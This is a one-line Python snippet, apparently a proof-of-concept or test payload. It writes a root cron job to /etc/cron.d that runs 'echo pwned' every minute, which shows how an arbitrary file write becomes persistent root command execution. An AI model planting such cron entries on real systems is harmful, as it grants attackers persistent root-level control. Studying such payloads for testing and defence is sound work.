open('/etc/cron.d/update', 'w').write('* * * * * root echo pwned\n')
